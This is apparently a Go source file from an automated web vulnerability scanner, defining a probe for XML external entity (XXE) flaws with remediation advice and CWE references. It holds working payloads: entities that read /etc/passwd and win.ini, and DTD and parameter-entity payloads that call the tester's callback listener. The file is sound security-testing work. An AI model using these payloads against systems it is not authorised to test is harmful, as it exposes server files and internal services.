package injection

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"time"

	"github.com/atelier-studio/atelier/agents"
	"github.com/atelier-studio/atelier/agents/discover"
	"github.com/atelier-studio/atelier/agents/surface"
	"github.com/atelier-studio/atelier/agents/wire"
)

func xxe() *agents.Probe {
	return &agents.Probe{
		ID: "xxe", Title: "XML from the request reads files or asks addresses",
		Decides:  "An external entity in a document makes the target show a file that every system has, or ask the campaign's own listener.",
		Keeps:    "Who called the listener or the line of the file, and the exchange.",
		Advice:   "Turn document types and external entities off in the XML reader; nobody who sends data needs them.",
		Needs:    needs,
		Severity: agents.High, References: []string{"CWE-611", "WSTG-INPV-07"}, Skills: []string{"XML"},
		Check: agents.Each(documents, runXXE),
	}
}

var xmlField = regexp.MustCompile(`(?i)xml|soap|saml|svg|feed|rss`)

// documents are what may take XML: operations that take a body, files that are uploaded, and fields that are XML already.
func documents(s *surface.Surface) []surface.Item {
	var list []surface.Item
	for _, o := range s.Operations {
		if u, err := url.Parse(o.URL); err == nil && !discover.Changes(u) && (o.Method == http.MethodPost || o.Method == http.MethodPut) { // who is signed out cannot try the rest
			list = append(list, o)
		}
	}
	for _, f := range s.Forms {
		if f.Purpose == surface.ForUpload && mayBeSent(f) && fileField(f) != nil {
			list = append(list, f)
		}
	}
	for _, in := range inputs(s) {
		if strings.HasPrefix(strings.TrimSpace(in.Known), "<") || in.In != surface.InPath && xmlField.MatchString(in.Name) {
			list = append(list, in)
		}
	}
	return list
}

// fileField is the field of a form that takes a document in XML; nil when it takes only others.
func fileField(f *surface.Form) *surface.Field {
	for i := range f.Fields {
		if field := &f.Fields[i]; field.Type == "file" && (field.Accept == "" || strings.Contains(field.Accept, "xml") || strings.Contains(field.Accept, "svg") || strings.Contains(field.Accept, "*")) {
			return field
		}
	}
	return nil
}

func runXXE(ctx context.Context, lab *agents.Lab, item surface.Item) agents.Outcome {
	var where agents.Place
	var send func(document string) *wire.Exchange
	switch item := item.(type) {
	case *surface.Operation:
		where = agents.Place{URL: item.URL, Method: item.Method, As: item.As}
		send = func(document string) *wire.Exchange {
			return lab.Send(ctx, wire.Request{Method: item.Method, URL: item.URL, As: as(lab, item), Body: []byte(document), Header: http.Header{"Content-Type": {"application/xml"}}})
		}
	case *surface.Form:
		field := fileField(item)
		where = agents.Place{URL: item.Page, Method: item.Method, Parameter: field.Name, As: item.As}
		send = func(document string) *wire.Exchange {
			r, err := item.Request(item.Values(), surface.File{Field: field.Name, Name: lab.Marker(9) + ".svg", Type: "image/svg+xml", Data: []byte(document)})
			if err != nil {
				return &wire.Exchange{Request: r, Fault: &wire.Fault{Kind: wire.Unsendable, Text: err.Error()}}
			}
			r.Follow = true
			return lab.Send(ctx, r)
		}
	case *surface.Input:
		a, stop := at(ctx, lab, item)
		if stop != nil {
			return *stop
		}
		defer a.close()
		where = a.place()
		send = func(document string) *wire.Exchange { return a.send(ctx, document) }
	}
	return tryEntities(ctx, lab, where, send)
}

func as(lab *agents.Lab, o *surface.Operation) string {
	if account, ok := lab.Account(""); ok && o.As == "" && o.Secured {
		return account.Name
	}
	return o.As
}

// tryEntities sends documents with an entity that is a file, and with some that are an address of the listener.
func tryEntities(ctx context.Context, lab *agents.Lab, where agents.Place, send func(string) *wire.Exchange) agents.Outcome {
	document := func(declared, used string) string {
		return `<?xml version="1.0"?><!DOCTYPE svg ` + declared + `><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>` + used + `</text></svg>`
	}
	failed := func(text string, evidence ...agents.Evidence) agents.Outcome {
		return agents.Fail(agents.Finding{Where: where, Text: text, Evidence: evidence, Cause: where.Method + " " + surface.ShapeOf(where.URL) + " " + where.Parameter})
	}
	for _, file := range []string{"file:///etc/passwd", "file:///c:/windows/win.ini"} {
		x := send(document(`[<!ENTITY e SYSTEM "`+file+`">]`, "&e;"))
		if stop := unfit(ctx, x); stop != nil {
			return *stop
		}
		if line := systemFile.Find(x.Body); line != nil && !bytes.Contains(x.Request.Body, line) {
			return failed("An external entity of a document reads a file of the server's system.", agents.Excerpt("a line of the file", string(line)), agents.Exchanged("the answer with the file", x))
		}
	}
	if lab.Listener == nil {
		return agents.Pass()
	}
	for i, declared := range []string{`[<!ENTITY e SYSTEM "%s">]`, `SYSTEM "%s.dtd"`, `[<!ENTITY %% p SYSTEM "%s.dtd"> %%p;]`} {
		marker := lab.Marker(i + 1)
		used := "x"
		if i == 0 {
			used = "&e;"
		}
		x := send(document(fmt.Sprintf(declared, lab.Listener.Address(marker)), used))
		timed, cancel := context.WithTimeout(ctx, 100*time.Millisecond)
		from, agent, ok := lab.Listener.Heard(timed, marker)
		cancel()
		if ok {
			return failed("An external entity of a document makes the server ask an address of the sender's choice, and most likely read files as well.",
				agents.Evidence{Name: "who called the listener", Text: fmt.Sprintf("%s called as %q", from, agent), Kind: agents.ByCallback}, agents.Exchanged("the request with the document", x))
		}
	}
	return agents.Pass()
}
